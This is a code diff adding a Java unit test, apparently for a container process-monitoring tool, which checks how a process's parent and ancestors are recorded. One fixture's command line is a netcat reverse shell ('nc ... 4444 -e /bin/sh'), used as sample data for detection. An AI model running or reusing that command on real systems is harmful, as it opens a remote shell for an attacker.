@@ -33,6 +33,23 @@ class ProcessEventDocumentsTest {
   }
 
   @Test
+  void parentAndAncestorsOfAnExecCarryTheirProgram() {
+    // Debian's static busybox re-runs its applets through /proc/self/exe: comm is "exe", argv[0] the applet
+    ProcessRelative nc = new ProcessRelative(4300, "exe", "/bin/busybox", "nc 172.17.0.5 4444 -e /bin/sh", false,
+        Optional.empty());
+    ProcessRelative shim = new ProcessRelative(4200, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
+        "/usr/bin/containerd-shim-runc-v2 -namespace moby", false, Optional.of("containerd-shim-runc-v2"));
+    ProcessObserved exec = new ProcessObserved(T, "netlink", SH, Optional.empty(),
+        new ProcessOrigin(Optional.empty(), List.of(nc, shim)));
+    Map<String, Object> process = exec.processDocument().orElseThrow();
+    assertEquals("nc", sub(process, "parent").get("program"));
+    List<?> ancestors = (List<?>) process.get("ancestors");
+    assertEquals("nc", ((Map<?, ?>) ancestors.get(0)).get("program"));
+    assertEquals("containerd-shim-runc-v2", ((Map<?, ?>) ancestors.get(1)).get("program"));
+    assertFalse(((Map<?, ?>) ancestors.get(0)).containsKey("cmdline"), "an exec's ancestors carry no command line");
+  }
+
+  @Test
   void forkExitUidChangeAndPtraceHaveTheirOwnFields() {
     Optional<ContainerInfo> c = Optional.of(ContainerInfo.unresolved(ID));
     Map<String, Object> fork = EventDocuments.of(new ProcessForked(T, "netlink", Optional.of(SH), 4321, 4400, c), HOST, "a");
